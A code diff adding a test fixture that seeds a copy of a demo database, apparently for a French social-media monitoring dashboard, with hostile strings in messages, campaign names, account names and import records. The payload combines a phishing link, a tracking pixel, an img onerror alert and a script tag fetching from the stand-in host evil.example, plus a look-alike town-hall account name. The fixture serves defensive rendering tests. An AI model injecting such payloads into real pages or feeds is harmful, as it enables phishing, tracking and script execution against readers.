@@ -63,3 +63,40 @@ def build(path: Path) -> Path:
         store.upsert(con, "imports", imp)
         store.upsert(con, "rejects", rej)
     return path
+
+
+# ------------------------------------------------------------------------------ hostile strings
+HOST = "evil.example"
+# What the adversarial check put in an X display name, plus the rest of the markdown/HTML toolbox:
+# a link, a tracking pixel, raw HTML, bare links GFM would turn into links, Streamlit's colour and
+# icon directives, LaTeX, emphasis, a heading.
+PAYLOAD = (f"Aide 200 euros : [cliquez ici](https://{HOST}/phish) ![p](http://{HOST}/pixel.png) "
+           f'<img src="http://{HOST}/raw.png" onerror="alert(1)"> <script>fetch("http://{HOST}/s")</script> '
+           f"www.{HOST}/w https://{HOST}/bare :red[rouge] :material/warning: "
+           f"$\\href{{https://{HOST}}}{{x}}$ **gras** _it_ `code` | a | b |\n# titre")
+LOOKALIKE = "Mairie de Saint-Aubin-sur-Loire officiel "
+
+
+def build_payload(demo_db: Path, path: Path) -> Path:
+    """A copy of the demo store where every string a user or an attacker controls carries PAYLOAD:
+    message texts, a look-alike X account first seen on the last day (the reported attack: its alert
+    heads Synthèse), campaign names, a peer's name, an import's file name, a rejected value."""
+    import shutil
+
+    shutil.copyfile(demo_db, path)
+    with store.writer(path) as con:
+        last = con.execute("SELECT max(created_at) FROM messages").fetchone()[0]
+        con.execute("UPDATE messages SET text = text || ' ' || ?", [PAYLOAD])
+        con.execute("UPDATE campaigns SET name = name || ' ' || ?", [PAYLOAD])
+        con.execute("UPDATE territories SET name = name || ' ' || ? WHERE territory_id = 'port-marel'",
+                    [f"[x](https://{HOST}/t)"])
+        store.upsert(con, "accounts", pd.DataFrame([{
+            "account_id": "x:555000666", "platform": "x", "native_id": "555000666", "handle": "mairie_staubin_off",
+            "name": LOOKALIKE + PAYLOAD, "official": False, "first_seen": last}]))
+        store.upsert(con, "imports", pd.DataFrame([{
+            "import_id": "payload", "path": f"/home/agent/[fichier](https:{HOST}).csv", "sha256": "0" * 64,
+            "format": "exportcomments", "started_at": last, "finished_at": last, "rows_read": 1, "inserted": 0,
+            "updated": 0, "rejected": 1, "status": "ok"}]))
+        store.upsert(con, "rejects", pd.DataFrame([{"import_id": "payload", "path": "x.csv", "line": 2,
+                                                    "column_name": "Texte", "value": PAYLOAD, "reason": "test"}]))
+    return path
